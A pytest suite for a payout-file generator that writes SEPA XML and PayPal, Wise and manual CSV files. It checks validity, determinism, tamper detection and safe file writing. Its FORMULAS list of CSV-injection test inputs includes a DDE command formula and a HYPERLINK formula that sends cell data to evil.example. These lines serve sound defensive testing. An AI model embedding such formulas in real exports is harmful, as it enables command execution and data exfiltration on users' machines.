"""Payout files: valid for the bank, the same bytes every time, and only ever saying what was ordered."""

from __future__ import annotations

import csv
import random
import stat
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from functools import cache
from io import StringIO
from pathlib import Path
from typing import Any

import msgspec
import pytest
import sepaxml
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from ledger.domain.errors import InvalidInput
from ledger.payouts.files import RenderedFile, check, render, verify, write
from ledger.payouts.orders import (
    FileHeader,
    ManualPayee,
    Payee,
    Payer,
    PaymentOrder,
    PayoutFileError,
    PayPalPayee,
    SepaPayee,
    WisePayee,
    is_payout_id,
)
from ledger.payouts.text import cell, identifier, latin, starts_formula

IBANS = [
    "DE89370400440532013000", "FR1420041010050500013M02606", "NL91ABNA0417164300", "ES9121000418450200051332",
    "PT50000201231234567890154", "BE68539007547034", "AT611904300234573201", "IT60X0542811101000000123456",
]  # fmt: skip
PAYER = Payer(name="Shop GmbH & Söhne", iban="DE02120300000000202051", bic="BYLADEM1001")
HEADER = FileHeader(
    run_id="acme/2026-09/EUR/sepa/1",
    created_at=datetime(2026, 10, 1, 9, 30, 15, 123456, UTC),
    execution_on=date(2026, 10, 2),
    currency="EUR",
    payer=PAYER,
    remittance="Commission acme 2026-09",
)
NS = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"}
# OWASP "CSV Injection" and public payload lists: formulas bare, behind quotes, spaces and invisible characters, in
# full-width forms, behind line ends and separators.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "  \u00a0=1+1", '"=1+1"',
    "'=1+1", "“=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "\u200b=1", "\ufeff=1", "\u202e=1", "−1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"ok")', "x\r\n=1+1", "x;=1+1", 'x";=1+1', "x\t=1+1",
]  # fmt: skip


def sepa_order(number: int, amount: int = 4990, **more: Any) -> PaymentOrder:
    payee = {"name": f"Affiliate {number}", "iban": IBANS[number % len(IBANS)], "bic": ""} | {
        k: more.pop(k) for k in ("name", "iban", "bic") if k in more
    }
    return order(number, SepaPayee(**payee), amount, **more)


def order(number: int, payee: Payee, amount: int = 4990, **more: Any) -> PaymentOrder:
    fields = {"payout_id": f"PO{number:05}", "affiliate_id": f"aff-{number}", "amount": amount, "currency": "EUR"}
    return PaymentOrder(**(fields | more), payee=payee)


@cache
def schema() -> etree.XMLSchema:
    """The official XSD, as the sepaxml package ships it."""
    return etree.XMLSchema(etree.parse(str(Path(sepaxml.__file__).parent / "schemas" / "pain.001.001.09.xsd")))


def transfers(content: bytes) -> list[dict[str, str]]:
    """A second reader, by another XML library than check's: what each transfer of a valid file says."""
    root = etree.fromstring(content)
    schema().assertValid(root)

    def text(node: Any, path: str) -> str:
        found = node.find("/".join(f"p:{step}" for step in path.split("/")), NS)
        return "" if found is None else found.text

    return [
        {
            "id": text(tx, "PmtId/EndToEndId"),
            "amount": text(tx, "Amt/InstdAmt"),
            "name": text(tx, "Cdtr/Nm"),
            "iban": text(tx, "CdtrAcct/Id/IBAN"),
            "bic": text(tx, "CdtrAgt/FinInstnId/BICFI"),
            "text": text(tx, "RmtInf/Ustrd"),
        }
        for tx in root.iterfind(".//p:CdtTrfTxInf", NS)
    ]


def rows(file: RenderedFile) -> list[list[str]]:
    return list(csv.reader(StringIO(file.content.decode(), newline="")))


# --- SEPA --------------------------------------------------------------------------------------------------


def test_a_sepa_file_is_valid_and_says_what_was_ordered() -> None:
    """Valid against the official XSD; header, totals and each transfer as a bank reads them."""
    [file] = render(HEADER, [sepa_order(1), sepa_order(2, 1, name="Zoë Łukasiewicz", bic="ABNANL2A")], "sepa")
    assert file.name.endswith("-sepa.xml")
    assert (file.count, file.control_sum) == (2, 4991)
    first, second = transfers(file.content)
    assert first == {
        "id": "PO00001",
        "amount": "49.90",
        "name": "Affiliate 1",
        "iban": IBANS[1],
        "bic": "",
        "text": "PO00001 Commission acme 2026-09",
    }
    assert (second["amount"], second["name"], second["bic"]) == ("0.01", "Zoe Lukasiewicz", "ABNANL2A")
    root = etree.fromstring(file.content)
    said = {
        tag: [e.text for e in root.iterfind(f".//p:{tag}", NS)]
        for tag in ("NbOfTxs", "CtrlSum", "ChrgBr", "CreDtTm", "Dt", "PmtMtd", "BtchBookg")
    }
    assert said == {
        "NbOfTxs": ["2", "2"],
        "CtrlSum": ["49.91", "49.91"],
        "ChrgBr": ["SLEV"],
        "CreDtTm": ["2026-10-01T09:30:15Z"],
        "Dt": ["2026-10-02"],
        "PmtMtd": ["TRF"],
        "BtchBookg": ["false"],
    }
    [message], [block] = ([e.text for e in root.iterfind(f".//p:{t}", NS)] for t in ("MsgId", "PmtInfId"))
    assert message.startswith("acme-2026-09")
    assert block == message + "-1"
    assert len(block) <= 35
    assert "Shop GmbH + Sohne" in file.content.decode()


def test_the_same_orders_make_the_same_bytes_in_any_order() -> None:
    """Rendered again, shuffled, and with the instant in another zone: not one byte differs."""
    orders = [sepa_order(n, 100 + n) for n in range(40)]
    [one] = render(HEADER, orders, "sepa")
    random.Random(7).shuffle(orders)
    zone = timezone(timedelta(hours=5, minutes=30))
    again = msgspec.structs.replace(HEADER, created_at=HEADER.created_at.astimezone(zone))
    assert render(again, orders, "sepa") == [one]
    other = msgspec.structs.replace(HEADER, run_id="other/2026-09/EUR/sepa/1")
    assert render(other, orders, "sepa")[0].content != one.content


def test_the_library_that_we_do_not_use_agrees() -> None:
    """sepaxml, exported once, has the same payments: id, amount, name, account and text."""
    orders = [sepa_order(n, 100 + n * 7) for n in range(30)]
    config = {"name": "Shop", "IBAN": PAYER.iban, "BIC": PAYER.bic, "batch": True, "currency": "EUR"}
    oracle = sepaxml.SepaTransfer(config, schema="pain.001.001.09", clean=True)
    for one in orders:
        assert isinstance(one.payee, SepaPayee)
        oracle.add_payment(
            {
                "name": one.payee.name,
                "IBAN": one.payee.iban,
                "amount": one.amount,
                "execution_date": HEADER.execution_on,
                "description": f"{one.payout_id} {HEADER.remittance}",
                "endtoend_id": one.payout_id,
            }
        )
    exported = oracle.export()
    [file] = render(HEADER, orders, "sepa")
    assert transfers(file.content) == transfers(exported)
    assert check(exported, "sepa", "EUR") == check(file.content, "sepa", "EUR")


# Letters of every script, signs and marks; and, rarer, anything at all.
NAMES = st.one_of(
    st.text(st.characters(codec="utf-8", categories=("L", "M", "N", "P", "S", "Zs")), min_size=1, max_size=140).map(
        lambda text: "Ada " + text.strip()
    ),
    st.text(min_size=1, max_size=140),
)


@given(
    st.lists(
        st.tuples(NAMES, st.integers(1, 99_999_999_999), st.sampled_from(IBANS)),
        min_size=1,
        max_size=5,
    ),
    st.text(max_size=200),
    st.text(st.characters(codec="utf-8", exclude_categories=("C", "Z")), min_size=1, max_size=80),
)
def test_nasty_names_make_a_valid_file_or_a_clear_refusal(
    payees: list[tuple[str, int, str]], remittance: str, run_id: str
) -> None:
    """Whatever the names are, no invalid file is made: it passes the XSD, or the affiliate is named."""
    orders = [sepa_order(n, amount, name=name, iban=iban) for n, (name, amount, iban) in enumerate(payees)]
    header = msgspec.structs.replace(HEADER, remittance=remittance, run_id=run_id)
    refused: PayoutFileError | None = None
    try:
        [file] = render(header, orders, "sepa")
    except PayoutFileError as error:
        refused = error
    if refused is not None:
        assert "details.name" in refused.message
        assert refused.message.startswith("affiliate aff-")
        return
    found = transfers(file.content)
    assert [(f["id"], int(Decimal(f["amount"]) * 100), f["iban"]) for f in found] == [
        (o.payout_id, o.amount, payee[2]) for o, payee in zip(orders, payees, strict=True)
    ]
    sepa = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/-?:().,'+ ")
    for one in found:
        assert set(one["name"]) <= sepa
        assert len(one["name"]) <= 70
        assert set(one["text"]) <= sepa
        assert len(one["text"]) <= 140
        assert one["text"].startswith(one["id"])


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("José Núñez Ávila", "Jose Nunez Avila"),
        ("Jürgen Groß", "Jurgen Gross"),
        ("Жанна Щербакова", "Zhanna Shterbakova"),
        ("ЮЛИЯ", "YULIYA"),
        ("Θεόδωρος Χατζής", "Theodoros Chatzis"),
        ("Søren Ærø & Łódź", "Soren Aero + Lodz"),
        ("O’Neill – Smith_2", "O'Neill - Smith-2"),
        ("A\u200bda\u00a0B\tC", "Ada B C"),
        ("ﬁnance № 5 ½", "finance No 5 1/2"),
        ("Ada 山田", "Ada .."),
        ("Ngọc Đặng", "Ngoc Dang"),
    ],
)
def test_names_are_spelled_in_the_sepa_character_set(name: str, written: str) -> None:
    """Marks dropped, Greek and Cyrillic spelled out, the rest a full stop."""
    assert latin(name, 70) == written


def test_a_long_name_is_cut_visibly() -> None:
    """70 characters at most, the last three full stops, never a space before them that a bank drops."""
    [file] = render(HEADER, [sepa_order(1, name="x" * 66 + " " + "y" * 20), sepa_order(2, name="z" * 70)], "sepa")
    assert [t["name"] for t in transfers(file.content)] == ["x" * 66 + "...", "z" * 70]


def test_without_bics_the_file_is_valid_and_says_not_provided() -> None:
    """The debtor's agent is mandatory, so it says NOTPROVIDED; the creditor's is left out."""
    header = msgspec.structs.replace(HEADER, payer=Payer(name="Shop", iban=PAYER.iban))
    [file] = render(header, [sepa_order(1)], "sepa")
    assert [t["bic"] for t in transfers(file.content)] == [""]
    assert file.content.count(b"<DbtrAgt><FinInstnId><Othr><Id>NOTPROVIDED</Id></Othr></FinInstnId></DbtrAgt>") == 1


@pytest.mark.parametrize(
    ("more", "says"),
    [
        ({"iban": "DE89370400440532013001"}, "details.iban"),
        ({"iban": "BR1500000000000010932840814P2"}, "SEPA zone"),
        ({"bic": "COBADEFF"}, "details.bic"),
        ({"currency": "USD"}, "the order is in USD, the file in EUR"),
        ({"amount": 100_000_000_000}, "999999999.99"),
        ({"name": "山田"}, "details.name"),
    ],
)
def test_an_order_that_sepa_cannot_pay_names_its_affiliate(more: dict[str, Any], says: str) -> None:
    """Nothing is rendered; the error says whose order it is and what is wrong, without the account."""
    with pytest.raises(PayoutFileError, match=says) as caught:
        render(HEADER, [sepa_order(0), sepa_order(1, **more)], "sepa")
    assert caught.value.message.startswith("affiliate aff-1: ")
    assert str(more.get("iban", "COBADEFF")) not in caught.value.message


def test_a_file_needs_its_payer_its_currency_and_its_method() -> None:
    """SEPA without a payer, with a wrong one, in dollars, or with a PayPal payee: refused."""
    replace = msgspec.structs.replace
    for header, orders, says in [
        (replace(HEADER, payer=None), [sepa_order(1)], "payer"),
        (replace(HEADER, payer=Payer(name="Shop", iban="DE0")), [sepa_order(1)], "payer: details.iban"),
        (replace(HEADER, currency="USD"), [sepa_order(1, currency="USD")], "must be EUR"),
        (HEADER, [order(1, PayPalPayee(email="a@example.com"))], "not of the method"),
        (HEADER, [sepa_order(1), sepa_order(1)], "in the file already"),
    ]:
        with pytest.raises(PayoutFileError, match=says):
            render(header, orders, "sepa")
    with pytest.raises(PayoutFileError, match="method"):
        render(HEADER, [sepa_order(1)], "cheque")
    with pytest.raises(PayoutFileError, match="time zone"):
        replace(HEADER, created_at=HEADER.created_at.replace(tzinfo=None))
    assert render(HEADER, [], "sepa") == []


@pytest.mark.parametrize(
    ("payout_id", "good"),
    [
        ("PO7KQ2", True), ("a/b", True), ("x" * 35, True), ("x" * 36, False), ("", False), ("/a", False),
        ("a/", False), ("a//b", False), ("=a", False), ("+a", False), ("ä", False), ("a_b", False), ("a\n", False),
        ("a  b", False),
    ],
)  # fmt: skip
def test_a_payout_id_is_one_that_every_bank_keeps(payout_id: str, good: bool) -> None:
    """1-35 of the SEPA character set, no slash at an end, nothing that a spreadsheet runs."""
    assert is_payout_id(payout_id) is good
    if not good:
        with pytest.raises(PayoutFileError, match="payout_id"):
            sepa_order(1, payout_id=payout_id)
    with pytest.raises(PayoutFileError, match="amount"):
        sepa_order(1, amount=0)


@given(st.lists(st.text(min_size=1), min_size=2, max_size=2, unique=True), st.sampled_from([33, 64]))
def test_identifiers_are_plain_short_and_different(texts: list[str], limit: int) -> None:
    """Message ids and file names: letters, digits, '.' and '-', never two runs under one name."""
    made = [identifier(text.encode(errors="replace").decode(), limit) for text in texts]
    for one in made:
        assert len(one) <= limit
        assert one[0].isascii()
        assert one[0].isalnum()
        assert set(one) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789.-")
    if texts[0].encode(errors="replace") != texts[1].encode(errors="replace"):
        assert made[0] != made[1]


# --- CSV ---------------------------------------------------------------------------------------------------


def test_paypal_rows_have_the_columns_that_paypal_reads() -> None:
    """Recipient, amount, currency, our payout id, note, wallet; no header row; a comma where the country writes it."""
    one = order(1, PayPalPayee(email="ada@example.com"), 123456)
    [file] = render(HEADER, [one], "paypal")
    assert rows(file) == [["ada@example.com", "1234.56", "EUR", "PO00001", "PO00001 Commission acme 2026-09", "PAYPAL"]]
    [comma] = render(msgspec.structs.replace(HEADER, decimal_comma=True), [one], "paypal")
    assert rows(comma)[0][1] == "1234,56"
    assert check(comma.content, "paypal", "EUR") == check(file.content, "paypal", "EUR") == (1, 123456, {"PO00001"})


def test_currencies_without_decimals_are_written_without() -> None:
    """JPY by ISO 4217, HUF because PayPal takes no decimals of it; an amount that has some is refused."""
    header = msgspec.structs.replace(HEADER, currency="JPY")
    payee = PayPalPayee(email="ada@example.com")
    assert rows(render(header, [order(1, payee, 500, currency="JPY")], "paypal")[0])[0][1] == "500"
    header = msgspec.structs.replace(HEADER, currency="HUF")
    [file] = render(header, [order(1, payee, 50000, currency="HUF")], "paypal")
    assert rows(file)[0][1] == "500"
    assert check(file.content, "paypal", "HUF")[1] == 50000
    with pytest.raises(PayoutFileError, match="aff-1: PayPal takes HUF without decimals"):
        render(header, [order(1, payee, 50050, currency="HUF")], "paypal")
    header = msgspec.structs.replace(HEADER, currency="KWD")
    manual = order(1, ManualPayee(instructions="cash"), 12345, currency="KWD")
    assert rows(render(header, [manual], "manual")[0])[1][2] == "12.345"


def test_paypal_refuses_what_it_would_refuse() -> None:
    """An id over 30 characters or with a space, and an e-mail that a spreadsheet would run."""
    good = PayPalPayee(email="a@example.com")
    for one, says in [
        (order(1, good, payout_id="x" * 31), "30 characters"),
        (order(1, good, payout_id="a b"), "no spaces"),
        (order(1, PayPalPayee(email="=cmd@example.com")), "details.email"),
    ]:
        with pytest.raises(PayoutFileError, match=f"affiliate aff-1: .*{says}"):
            render(HEADER, [one], "paypal")


def test_ten_thousand_payouts() -> None:
    """PayPal: two files of 5,000; Wise: ten of 1,000; SEPA: one. Totals are right, and no id is in two files."""
    emails = [order(n, PayPalPayee(email=f"a{n}@example.com"), n + 1) for n in range(10_000)]
    files = render(HEADER, emails, "paypal")
    assert [(f.name[-12:], f.count) for f in files] == [("paypal-1.csv", 5000), ("paypal-2.csv", 5000)]
    assert len(render(HEADER, emails[:5000], "paypal")) == 1
    assert [f.count for f in render(HEADER, emails[:5001], "paypal")] == [5000, 1]
    wise = [order(n, WisePayee(name="Ada", receiver_type="PERSON", iban=IBANS[0]), n + 1) for n in range(10_000)]
    made = {"paypal": files, "wise": render(HEADER, wise, "wise")}
    made["sepa"] = render(HEADER, [sepa_order(n, n + 1) for n in range(10_000)], "sepa")
    assert [len(made[m]) for m in ("paypal", "wise", "sepa")] == [2, 10, 1]
    for method, found in made.items():
        counts, sums, ids = zip(*(check(f.content, method, "EUR") for f in found), strict=True)
        assert (sum(counts), sum(sums), len(set().union(*ids))) == (10_000, 50_005_000, 10_000)
    assert len(transfers(made["sepa"][0].content)) == 10_000


def test_wise_has_a_file_for_each_template() -> None:
    """IBAN, Australian account and e-mail are different templates; the payee gets the exact amount."""
    header = msgspec.structs.replace(HEADER, currency="AUD")
    payees = [
        WisePayee(name="Ada Byron", receiver_type="PERSON", email="ada@x.io", iban=IBANS[0]),
        WisePayee(name="Bob Pty", receiver_type="INSTITUTION", bsb_code="062-000", account_number="01234567"),
        WisePayee(name="Cy", receiver_type="PERSON", email="cy@x.io"),
    ]
    files = render(header, [order(n, p, currency="AUD") for n, p in enumerate(payees)], "wise")
    head = ["name", "recipientEmail", "paymentReference", "receiverType", "amountCurrency", "amount"]
    head += ["sourceCurrency", "targetCurrency"]
    target = ["target", "49.90", "AUD", "AUD"]
    assert {f.name.split("wise-")[1]: rows(f) for f in files} == {
        "iban-1.csv": [[*head, "IBAN"], ["Ada Byron", "ada@x.io", "PO00000", "PERSON", *target, IBANS[0]]],
        "bsb-1.csv": [
            [*head, "bsbCode", "accountNumber"],
            ["Bob Pty", "", "PO00001", "INSTITUTION", *target, "062-000", "01234567"],
        ],
        "email-1.csv": [head, ["Cy", "cy@x.io", "PO00002", "PERSON", *target]],
    }


def test_the_manual_list_has_all_that_a_person_needs() -> None:
    """Whom, how much, by when, how, and under which reference; line ends become spaces."""
    [file] = render(HEADER, [order(1, ManualPayee(instructions="Cash,\nat the desk"))], "manual")
    assert rows(file)[1] == [
        "PO00001", "aff-1", "49.90", "EUR", "2026-10-02", "Cash, at the desk", "Commission acme 2026-09",
    ]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_any_csv_is_a_formula(formula: str) -> None:
    """Free text that begins like a formula gets an apostrophe; no reader, of commas, semicolons or tabs, finds one."""
    header = msgspec.structs.replace(HEADER, remittance=formula)
    name = formula if any(c.isalnum() for c in formula) else formula + "x"
    files = render(header, [order(1, ManualPayee(instructions=formula), affiliate_id="-dash")], "manual")
    files += render(header, [order(1, PayPalPayee(email="a@example.com"))], "paypal")
    if name.isprintable():
        files += render(header, [order(1, WisePayee(name=name, receiver_type="PERSON", iban=IBANS[0]))], "wise")
    for file in files:
        for delimiter in ",;\t":
            for row in csv.reader(StringIO(file.content.decode(), newline=""), delimiter=delimiter):
                assert not [value for value in row if value[:1] in "=+-@\t\r\n\0＝＋－＠−" and value]
                assert not [v for v in row if starts_formula(v) and not v.startswith("'")]
    assert starts_formula(formula) is (not formula.startswith("x"))


@pytest.mark.parametrize(
    "text", ["Ada Byron", "'t Hooft", "O'Neill", "Müller & Co.", "a-b+c=d@e", "山田太郎", "", "(x)"]
)
def test_harmless_text_is_not_touched(text: str) -> None:
    """A payee's name is what the bank compares: only what a spreadsheet would run is altered."""
    assert cell(text) == text


# --- Reading back ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("method", ["sepa", "paypal", "wise", "manual"])
def test_a_file_that_says_something_else_is_noticed(method: str) -> None:
    """One payment more, less, twice, of another amount, or to another account: each is refused."""
    payees: dict[str, list[Payee]] = {
        "sepa": [SepaPayee(name="Ada", iban=iban) for iban in IBANS],
        "paypal": [PayPalPayee(email=f"a{n}@example.com") for n in range(8)],
        "wise": [WisePayee(name="Ada", receiver_type="PERSON", iban=iban) for iban in IBANS],
        "manual": [ManualPayee(instructions="cash")] * 8,
    }
    orders = [order(n, p, 1000 + n) for n, p in enumerate(payees[method])]
    files = render(HEADER, orders, method)
    verify(files, orders)
    verify(files, orders[::-1])
    replace = msgspec.structs.replace
    for changed, named in [
        (orders[1:], "PO00000"),
        ([*orders, order(99, payees[method][0])], "PO00099"),
        ([*orders[1:], replace(orders[0], amount=1)], "PO00000"),
        # same count and sum, two amounts exchanged
        ([replace(orders[0], amount=1001), replace(orders[1], amount=1000), *orders[2:]], "PO00000, PO00001"),
        ([replace(orders[0], payee=payees[method][1], affiliate_id="other"), *orders[1:]], "PO00000"),
    ]:
        with pytest.raises(PayoutFileError, match=named):
            verify(files, changed)
    with pytest.raises(PayoutFileError):
        verify([], orders)
    with pytest.raises(PayoutFileError):
        verify([*files, *files], orders)
    with pytest.raises(PayoutFileError, match="hash"):
        verify([replace(files[0], content=files[0].content.replace(b"10.00", b"10.01"))], orders)
    with pytest.raises(PayoutFileError, match="control sum"):
        verify([replace(files[0], control_sum=1)], orders)


@pytest.mark.parametrize(
    ("was", "becomes", "says"),
    [
        (b"<NbOfTxs>2<", b"<NbOfTxs>3<", "NbOfTxs or CtrlSum"),
        (b"<CtrlSum>2.01<", b"<CtrlSum>2.02<", "NbOfTxs or CtrlSum"),
        (b'Ccy="EUR">1.00', b'Ccy="EUR">1.01', "NbOfTxs or CtrlSum"),
        (b'Ccy="EUR">1.00', b'Ccy="USD">1.00', "transfer 1: is not in EUR"),
        (b'Ccy="EUR">1.00', b'Ccy="EUR">1', "decimals"),
        (b'Ccy="EUR">1.00', b'Ccy="EUR">-1.00', "decimals"),
        (b"PO00001<", b"PO00000<", "twice"),
        (b"EndToEndId>PO00001<", b"EndToEndId><", "lacks"),
        (b"pain.001.001.09", b"pain.001.001.03", "pain.001.001.09"),
        (b"</Document>", b"", "well-formed"),
        (b"<Document", b'<!DOCTYPE d [<!ENTITY a "b">]><Document', "plain"),
    ],
)
def test_a_sepa_file_that_contradicts_itself_is_refused(was: bytes, becomes: bytes, says: str) -> None:
    """Counts, sums, currency, ids and form are all read from the bytes."""
    [file] = render(HEADER, [sepa_order(0, 100), sepa_order(1, 101)], "sepa")
    assert was in file.content
    assert check(file.content, "sepa", "EUR") == (2, 201, {"PO00000", "PO00001"})
    with pytest.raises(PayoutFileError, match=says):
        check(file.content.replace(was, becomes), "sepa", "EUR")


@pytest.mark.parametrize(
    ("was", "becomes", "says"),
    [
        (b"49.90", b"49.9", "row 2: the amount"),
        (b"49.90", b"4.990,00", "row 2"),
        (b"49.90", b"-49.90", "row 2: the amount"),
        (b"EUR,EUR", b"EUR,USD", "row 2: must be paid in one currency"),
        (b"EUR,EUR", b"USD,USD", "row 2: is not in EUR"),
        (b",target,", b",source,", "the exact amount"),
        (b"paymentReference", b"reference", "row 1"),
        (b"PO00001", b"", "not well formed"),
        (b"Ada", b"\xff", "UTF-8"),
    ],
)
def test_a_csv_file_that_was_edited_is_refused(was: bytes, becomes: bytes, says: str) -> None:
    """Whoever saves it from a spreadsheet that drops zeros or changes a column is told which row."""
    [file] = render(HEADER, [order(1, WisePayee(name="Ada", receiver_type="PERSON", iban=IBANS[0]))], "wise")
    assert was in file.content
    with pytest.raises(PayoutFileError, match=says):
        check(file.content.replace(was, becomes), "wise", "EUR")


def test_nothing_is_rendered_that_does_not_read_back_as_ordered() -> None:
    """An account in the order that is not written as the file has it is no match: rendering refuses."""
    with pytest.raises(PayoutFileError, match="do not say what the orders say for PO00001"):
        render(HEADER, [sepa_order(1, iban="DE89-3704-0044-0532-0130-00")], "sepa")


# --- Writing -----------------------------------------------------------------------------------------------


def test_files_are_written_for_their_owner_only_and_left_when_they_are_there(tmp_path: Path) -> None:
    """Mode 0600 in a directory 0700; the same again changes nothing; other bytes are refused before anything else."""
    directory = tmp_path / "out" / "payouts"
    files = render(HEADER, [order(n, PayPalPayee(email=f"a{n}@example.com")) for n in range(5001)], "paypal")
    paths = write(directory, files)
    assert [p.read_bytes() for p in paths] == [f.content for f in files]
    assert stat.S_IMODE(paths[0].stat().st_mode) == 0o600
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    before = paths[0].stat()
    assert write(directory, files) == paths
    assert (paths[0].stat().st_mtime_ns, paths[0].stat().st_ino) == (before.st_mtime_ns, before.st_ino)
    paths[0].unlink()
    paths[1].write_bytes(b"something else")
    with pytest.raises(PayoutFileError, match="never overwritten"):
        write(directory, files)
    assert sorted(p.name for p in directory.iterdir()) == [paths[1].name]
    assert paths[1].read_bytes() == b"something else"


def test_a_name_cannot_leave_the_directory_nor_follow_a_link(tmp_path: Path) -> None:
    """'../x' is refused, and so is a link that somebody put where the file should be."""
    [file] = render(HEADER, [sepa_order(1)], "sepa")
    for name in ("../x.xml", "/x.xml", ".x", "", "a/b"):
        with pytest.raises(PayoutFileError, match="name"):
            write(tmp_path, [msgspec.structs.replace(file, name=name)])
    target = tmp_path / "target"
    target.write_bytes(file.content)
    (tmp_path / file.name).symlink_to(target)
    with pytest.raises(PayoutFileError, match="exists already"):
        write(tmp_path, [file])


# Forks once for each call into C that write() makes (open, write, fsync, rename …), kills the child before it, and
# looks at what is there; then writes again and looks whether it is whole.
KILLER = """
import os, signal, sys
from pathlib import Path
from ledger.payouts.files import RenderedFile, write
from hashlib import sha256

root, contents = Path(sys.argv[1]), {"a-1.csv": b"x" * 300_000, "a-2.csv": b"y" * 300_000}
files = [RenderedFile(name=n, method="paypal", currency="EUR", content=c, sha256=sha256(c).hexdigest(), count=1,
                      control_sum=1) for n, c in contents.items()]
killed = finished = 0
calls = []
for step in range(10_000):
    directory = root / str(step)
    directory.mkdir()
    read, said = os.pipe()
    child = os.fork()
    if child == 0:
        seen = 0
        def watch(frame, event, called):
            global seen
            if event == "c_call":
                if seen == step:
                    os.write(said, called.__name__.encode())
                    os.kill(os.getpid(), signal.SIGKILL)
                seen += 1
        sys.setprofile(watch)
        write(directory, files)
        sys.setprofile(None)
        os._exit(0)
    os.close(said)
    _, status = os.waitpid(child, 0)
    calls.append(os.read(read, 100).decode())
    os.close(read)
    for path in directory.iterdir():
        if path.name in contents:
            assert path.read_bytes() == contents[path.name], (step, path.name, "half a file")
        else:
            assert path.name.startswith(".") and path.stat().st_mode & 0o77 == 0, (step, path.name)
    write(directory, files)
    assert sorted(p.name for p in directory.iterdir()) == sorted(contents), (step, "something is left over")
    assert all((directory / n).read_bytes() == c for n, c in contents.items()), step
    if status == 0:
        finished = 1
        break
    assert os.WTERMSIG(status) == signal.SIGKILL, status
    killed += 1
print(killed, finished, *calls)
"""


def test_killed_at_any_step_a_file_is_absent_or_whole(tmp_path: Path) -> None:
    """kill -9 before every system call of write: never half a file under its name, and a rerun makes it whole."""
    done = subprocess.run(
        [sys.executable, "-c", KILLER, str(tmp_path)],
        capture_output=True,
        text=True,
        cwd=Path(__file__).parent.parent,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    killed, finished, *calls = done.stdout.split()
    assert int(killed) > 20
    assert finished == "1"
    # On the disk before it has its name, and the name on the disk before the caller goes on.
    steps = [call for call in calls if call in ("flock", "write", "fsync", "replace")]
    assert steps == ["flock", *["write", "fsync", "replace"] * 2, "fsync"]


FULL_DISK = """
import resource, sys
from pathlib import Path
from ledger.payouts.files import RenderedFile, write

directory, big = Path(sys.argv[1]), b"x" * 300_000
file = RenderedFile(name="a.csv", method="paypal", currency="EUR", content=big, sha256="", count=1, control_sum=1)
soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, hard))
try:
    write(directory, [file])
except OSError as error:
    print(type(error).__name__, [p.name for p in directory.iterdir()])
resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
print(len(write(directory, [file])[0].read_bytes()))
"""


def test_a_full_disk_leaves_nothing(tmp_path: Path) -> None:
    """A write that fails half way is an error, leaves neither the file nor its draft, and works once there is room."""
    done = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(tmp_path)],
        capture_output=True,
        text=True,
        cwd=Path(__file__).parent.parent,
        check=True,
    )
    assert done.stdout.split("\n")[:2] == ["OSError []", "300000"]


RACE = (
    FULL_DISK.split("soft, hard")[0]
    + """
for n in range(50):
    [path] = write(directory / str(n), [file])
    assert path.read_bytes() == big
"""
)


def test_two_processes_writing_the_same_files_do_not_disturb_each_other(tmp_path: Path) -> None:
    """Both end well, the bytes are whole, and no draft is left."""
    command = [sys.executable, "-c", RACE, str(tmp_path)]
    running = [subprocess.Popen(command, cwd=Path(__file__).parent.parent) for _ in range(3)]
    assert [p.wait(60) for p in running] == [0, 0, 0]
    assert [p.name for p in tmp_path.glob("*/*")] == ["a.csv"] * 50


def test_payee_errors_are_refusals_of_the_ledger() -> None:
    """The API can show them: they carry a code and a message that names the affiliate."""
    with pytest.raises(PayoutFileError) as caught:
        render(HEADER, [sepa_order(1, iban="DE00")], "sepa")
    assert caught.value.code == "payout_file"
    assert not isinstance(caught.value, InvalidInput)
